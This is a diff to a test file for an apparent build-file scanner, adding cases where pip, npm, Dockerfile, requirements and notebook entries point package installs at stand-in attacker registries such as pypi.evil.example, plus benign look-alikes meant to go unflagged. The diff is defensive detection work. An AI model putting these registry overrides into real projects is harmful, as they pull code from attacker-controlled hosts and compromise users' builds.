@@ -52,7 +52,13 @@ SETTINGS = {
     "build.sh": f"pip config set global.index-url {EVIL}\n",
     "e/build.sh": "npm ci --registry=https://npm.evil.example/\n",
     "nb.ipynb": '{"cells": [{"cell_type": "code", "source": ["%pip install -i https://pypi.evil.example/simple x"]}]}',
+    "one.ipynb": '{"cells":[{"source":["%pip install -i https://pypi.evil.example/simple x\\\\n","!curl -f http://q"]}]}',
     "setup.cfg": f"[easy_install]\nindex_url = {EVIL}\n",
+    "f/build.sh": f"python -m pip install \\\n  -i {EVIL} \\\n  six\n",
+    "g/build.sh": f"curl -f https://h.example/ && pip3 install -f {EVIL} six\n",
+    "h/build.sh": "npm config set registry https://npm.evil.example/\n",
+    "reqs.txt": f"-f {EVIL}\nsix==1.16.0\n",
+    "h/Dockerfile": f'RUN ["pip", "install", "-i", "{EVIL}", "six"]\n',
     "environment.yml": f"dependencies:\n  - pip:\n    - --extra-index-url {EVIL}\n",
 }
 
@@ -74,6 +80,15 @@ def test_each_way_to_set_an_index_is_named(tmp_path: Path, name: str) -> None:
         (".npmrc", "registry=https://registry.npmjs.org/\nsave-exact=true\n"),
         ("Pipfile", '[[source]]\nurl = "https://pypi.org/simple"\n'),
         ("README.md", f"pip install --extra-index-url {EVIL}\n"),
+        (
+            "Dockerfile",
+            "HEALTHCHECK CMD curl -f http://localhost:8000/health || exit 1\nRUN curl -fsS -i http://h.example/\n",
+        ),
+        ("run.sh", "pip install six && curl -s -f http://localhost:3000/health\nwget -i https://h.example/list\n"),
+        ("deploy.sh", "pip install -r requirements.txt\nkubectl apply -f https://h.example/app.yaml\n"),
+        (".env", "REGISTRY=https://registry.h.example\n"),
+        ("values.yaml", "image:\n  registry: https://registry.h.example/\n"),
+        ("Makefile", "up:\n\tdocker compose -f https://h.example/compose.yaml up\n"),
         ("deploy.yaml", "spec:\n  index: https://search.example/index\n"),
     ],
 )
